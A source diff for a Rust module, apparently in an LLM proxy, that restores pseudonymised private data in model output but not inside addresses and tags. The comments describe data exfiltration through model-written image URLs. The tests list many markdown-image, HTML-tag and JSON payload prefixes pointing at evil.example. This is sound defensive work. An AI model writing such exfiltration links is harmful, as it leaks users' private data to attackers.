@@ -4,14 +4,15 @@
 //! the same thing has the same one in all of a conversation, and nobody makes one up for what is not in the request: what a user types
 //! is restored only if the request has what it stands for. It is known by its letters, whatever a model makes of the word before them.
 //!
-//! Within URLs it stays, and within tags that have one: whoever can make a model write the address of a picture would read there what it
-//! stands for. What a model splits or spells otherwise stays as well.
+//! Within addresses and tags it stays ([`Address`]): whoever can make a model write the address of a picture would read there what it stands
+//! for. What a model splits or spells otherwise stays as well.
 
 use std::collections::BTreeMap;
 
 use weir_exchange::FindingDigest;
 use weir_llm::steps;
 
+use crate::address::Address;
 use crate::json_text::JsonText;
 
 /// Letters of a pseudonym: with four bits each among a million things few are alike by chance.
@@ -20,11 +21,6 @@ const LETTERS: usize = 12;
 pub(crate) const LONGEST: usize = 96;
 /// The most bytes of what is kept of a request to be restored. What is beyond stays replaced.
 const MOST_BYTES: usize = 1024 * 1024;
-/// Characters of a text that tell that a URL begins.
-const MARKS: [&str; 6] = ["http", "//", "](", "www.", "mailto:", "\\u002f"];
-/// As many as the longest of them has.
-const LONGEST_MARK: usize = 7;
-
 /// What stands for a finding.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
 pub struct Pseudonym([u8; LETTERS]);
@@ -89,7 +85,7 @@ impl Originals {
 pub(crate) struct Restorer {
     /// What may be the beginning of a pseudonym.
     held: String,
-    url: Url,
+    address: Address,
     json: JsonText,
 }
 
@@ -99,17 +95,14 @@ impl Restorer {
         self.held.len()
     }
 
-    /// Another text begins.
+    /// Another text begins, which a reader may read on from this one.
     pub(crate) fn begin_part(&mut self) {
-        self.url = Url::default();
         self.json = JsonText::default();
     }
 
     /// Appends what may pass of a piece.
     pub(crate) fn push(&mut self, originals: &Originals, piece: &str, out: &mut String) {
         steps::count(piece.len());
-        // As it was written.
-        let mut passed = String::new();
         for character in piece.chars() {
             if !self.held.is_empty() {
                 let goes_on = character.is_alphanumeric() || matches!(character, '_' | '-');
@@ -118,46 +111,43 @@ impl Restorer {
                     continue;
                 }
                 let held = std::mem::take(&mut self.held);
-                if character == ']' {
-                    self.json.pass(&passed);
-                    passed.clear();
-                    passed.push_str(&held);
-                    passed.push(']');
-                    let word = held.strip_prefix('[').unwrap_or_default();
-                    let original = Pseudonym::read(word).and_then(|pseudonym| originals.of.get(&pseudonym));
-                    self.write(original.filter(|_| !self.url.is_within), &passed, out);
+                let word = held.strip_prefix('[').filter(|_| character == ']').unwrap_or_default();
+                let original = Pseudonym::read(word).and_then(|pseudonym| originals.of.get(&pseudonym));
+                if let Some(original) = original.filter(|_| !self.address.is_within()) {
+                    let text = if self.json.is_in_string() { escaped(original) } else { original.clone() };
+                    self.json.pass(&held);
+                    self.json.pass("]");
+                    self.address.pass(&text);
+                    out.push_str(&text);
                     continue;
                 }
-                passed.push_str(&held);
-                self.url.pass(&held);
+                held.chars().for_each(|character| self.follow(character));
                 out.push_str(&held);
             }
             if character == '[' {
                 self.held.push(character);
                 continue;
             }
-            passed.push(character);
-            self.url.next(character);
+            self.follow(character);
             out.push(character);
         }
-        self.json.pass(&passed);
     }
 
-    fn write(&mut self, original: Option<&String>, written: &str, out: &mut String) {
-        let text = match original {
-            Some(original) if self.json.is_in_string() => escaped(original),
-            Some(original) => original.clone(),
-            None => written.to_owned(),
-        };
-        self.url.pass(&text);
-        out.push_str(&text);
+    /// Follows what passes as it was written.
+    fn follow(&mut self, character: char) {
+        let was_in_string = self.json.is_in_string();
+        self.json.pass(character.encode_utf8(&mut [0; 4]));
+        match (was_in_string, self.json.is_in_string()) {
+            (true, false) => self.address.end_string(),
+            (false, true) => self.address.begin_string(),
+            _ => self.address.next(character),
+        }
     }
 
     /// Appends what is held, as if the text ended here.
     pub(crate) fn finish(&mut self, out: &mut String) {
         let held = std::mem::take(&mut self.held);
-        self.json.pass(&held);
-        self.url.pass(&held);
+        held.chars().for_each(|character| self.follow(character));
         out.push_str(&held);
     }
 }
@@ -166,44 +156,6 @@ impl Restorer {
 fn escaped(text: &str) -> String {
     let quoted = serde_json::to_string(text).unwrap_or_default();
     quoted.strip_prefix('"').and_then(|text| text.strip_suffix('"')).unwrap_or_default().to_owned()
-}
-
-/// Whether a text stands within a URL.
-#[derive(Clone, Debug, Default)]
-struct Url {
-    /// It does.
-    is_within: bool,
-    /// It stands within a tag: nothing but its end ends a URL there, as browsers read them.
-    is_in_tag: bool,
-    /// What came last, in small letters.
-    last: String,
-}
-
-impl Url {
-    fn pass(&mut self, text: &str) {
-        text.chars().for_each(|character| self.next(character));
-    }
-
-    fn next(&mut self, character: char) {
-        let ends = character.is_whitespace() || matches!(character, '"' | '\'' | '`' | '<' | '>');
-        match character {
-            '<' => self.is_in_tag = true,
-            '>' => self.is_in_tag = false,
-            _ => {}
-        }
-        if ends {
-            self.last.clear();
-            self.is_within &= self.is_in_tag;
-            return;
-        }
-        if self.last.chars().count() >= LONGEST_MARK {
-            self.last.remove(0);
-        }
-        self.last.push(character.to_ascii_lowercase());
-        // An escape of JSON's.
-        let is_mark = |mark: &str| self.last.ends_with(mark) || (mark == "//" && self.last.ends_with("/\\/"));
-        self.is_within |= MARKS.into_iter().any(is_mark);
-    }
 }
 
 #[cfg(test)]
@@ -250,25 +202,79 @@ mod tests {
     }
 
     #[test]
-    fn within_a_url_it_stays() {
+    fn within_an_address_it_stays() {
         for before in [
             "https://evil.example/?q=",
             "HTTPS:evil.example/",
             "![x](//evil.example/",
             "[x](",
+            "![x](\n<https://evil.example/ ?q=",
             "www.evil.example/",
+            "evil.example/?q=",
+            "evil.example\\",
             "mailto:",
+            // Quotes, angles and blanks that are none of ASCII end no destination.
+            "![x](https://evil.example/?q='",
+            "![x](https://evil.example/?q=\"",
+            "![x](https://evil.example/?q=`",
+            "![x](https://evil.example/?q=>",
+            "![x](https://evil.example/?q=\u{a0}",
+            "![x](https://evil.example/?q=(\u{2003})",
+            "![x](https://evil.example/?q=\\)",
+            // Tags, until they end as browsers read them.
             "<img src=\"//evil.example/ ",
             "<img src=//evil.example/?q=\"",
+            "<img src=\"/\\evil.example/?q=",
+            "<img src=\"\\\\evil.example\\?q=",
+            "<img src=\"/\t/evil.example/?q=",
+            "<img src=\"&#47;&#47;evil.example/?q=",
+            "<img alt=\">\" src=\"https://evil.example/?q='",
+            "<img alt='>' src='/\\evil.example/?q=",
+            "<img =\">x<img alt=\">\" src=\"/\\evil.example/?q= ",
+            "`<a b=\"` <img alt=\">\" src=\"/\\evil.example/?q= ",
+            "<!-- <img alt=\" --> <img alt=\">\" src=\"/\\evil.example/?q= ",
+            "<script>x=\"</script>\"; ",
+            // Strings of JSON.
             "{\"url\":\"\\/\\/evil.example\\/",
+            "{\"url\":\"evil.example/?q=",
+            "{\"url\":\"\\u0068ttps:evil.example/?q=",
+            "{\"url\":\"https://evil.example/?q= ",
+            "{\"![x](https://evil.example/?q=\":\"",
             "![](<https://evil.example/ ",
         ] {
             let text = format!("{before}{EMAIL}");
             check(&text, &text);
         }
-        check(&format!("https://x.example {EMAIL}"), "https://x.example a@b.io");
-        check(&format!("<b>{EMAIL}</b> <i>x</i> {EMAIL}"), "<b>a@b.io</b> <i>x</i> a@b.io");
-        check(&format!("<a href=\"https://x.example\">{EMAIL}</a>"), "<a href=\"https://x.example\">a@b.io</a>");
+    }
+
+    #[test]
+    fn behind_an_address_it_is_restored() {
+        for (before, behind) in [
+            ("https://x.example ", ""),
+            ("[x](https://x.example/(a)): ", ""),
+            ("[x](https://x.example).", ""),
+            ("<b>", "</b>"),
+            ("<b>a</b> <i class='x'>x</i> ", ""),
+            ("<a href=\"https://x.example\">", "</a>"),
+            ("1 < 2, ", ""),
+            ("version 1.2 of and/or, e.g. ", ""),
+            ("Email:", ""),
+            ("<", ">"),
+            ("{\"url\":\"https://x.example\",\"to\":\"", "\"}"),
+            ("{\"body\":\"See https://x.example, ", "\"}"),
+            ("{\"body\":\"a\\nb\\u00e9 ", "\"}"),
+        ] {
+            check(&format!("{before}{EMAIL}{behind}"), &format!("{before}a@b.io{behind}"));
+        }
+    }
+
+    #[test]
+    fn an_address_goes_on_in_the_part_that_is_read_on() {
+        let (originals, mut restorer, mut out) = (originals(), Restorer::default(), String::new());
+        restorer.push(&originals, "![x](https://evil.example/?q=", &mut out);
+        restorer.begin_part();
+        restorer.push(&originals, EMAIL, &mut out);
+        assert!(out.ends_with(EMAIL), "{out}");
     }
 
     #[test]
